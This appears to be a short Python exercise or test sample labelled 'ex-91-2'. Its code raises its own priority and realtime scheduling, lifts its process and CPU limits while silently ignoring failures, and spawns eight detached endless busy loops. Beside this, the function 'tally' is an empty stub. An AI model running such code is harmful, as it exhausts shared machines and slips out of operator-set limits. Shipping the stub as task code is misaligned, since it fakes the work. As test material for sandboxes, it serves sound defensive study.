# tries = "raises its priority and limits, pins itself, and takes every processor with many threads of work"
# keeps = ["91.1"]
# %% ex-91-2
import os
import resource
import subprocess
import sys

for work in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
             lambda: resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1)),
             lambda: resource.setrlimit(resource.RLIMIT_CPU, (-1, -1))):
    try:
        work()
    except (OSError, ValueError):
        pass
for _ in range(8):
    subprocess.Popen([sys.executable, "-c", "while True: pass"], start_new_session=True)


def tally(text):
    return {}
